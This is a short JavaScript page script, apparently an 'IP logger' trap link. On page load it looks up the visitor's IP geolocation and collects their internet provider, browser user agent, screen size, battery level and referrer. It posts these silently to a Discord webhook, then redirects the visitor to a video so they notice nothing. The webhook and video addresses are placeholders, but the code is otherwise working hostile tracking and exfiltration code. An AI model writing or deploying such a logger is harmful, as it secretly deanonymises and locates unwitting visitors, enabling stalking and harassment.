$(document).ready(function(){
    $.getJSON("https://ipapi.co/json/", function(d){
        var bat = "?";
        var go = function(){
            $.ajax({
                url: "https://discord.com/api/webhooks/000000000000000000/AAAA",
                type: "POST", contentType: "application/json",
                data: JSON.stringify({ username: "logger", embeds: [{ title: "novo clique!", color: 15158332, fields: [
                    { name: "IP", value: d.ip, inline: true }, { name: "Cidade", value: d.city + " / " + d.region, inline: true },
                    { name: "Provedor", value: d.org }, { name: "UA", value: navigator.userAgent },
                    { name: "Tela", value: screen.width + "x" + screen.height }, { name: "Bateria", value: bat }, { name: "De onde", value: document.referrer || "direto" }
                ] }] }),
                complete: function(){ window.location = "https://video-site.example/watch?v=0000"; }
            });
        };
        if (navigator.getBattery) navigator.getBattery().then(function(b){ bat = Math.round(b.level*100) + "%"; go(); }); else go();
    });
});
